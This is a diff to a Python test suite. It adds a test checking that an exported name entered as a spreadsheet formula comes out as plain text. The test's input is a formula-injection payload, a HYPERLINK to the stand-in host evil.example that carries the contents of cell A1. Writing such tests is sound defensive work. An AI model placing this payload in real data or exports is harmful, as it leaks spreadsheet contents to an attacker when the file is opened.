@@ -145,3 +145,10 @@ def test_the_export_masks_the_id_number_and_shows_statuses_only_to_those_who_nee
     assert row[1] == mask_id_number(person.id_number)
     assert row[2] == "139****1234"
     assert (row[4], row[5]) == (None, None)
+
+
+def test_a_name_typed_as_a_formula_is_exported_as_text(person, client):
+    type(person).objects.filter(pk=person.pk).update(name='=HYPERLINK("http://evil.example/?"&A1,"click")')
+    client.force_login(organiser())
+    row = export(client, person)
+    assert row[0] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
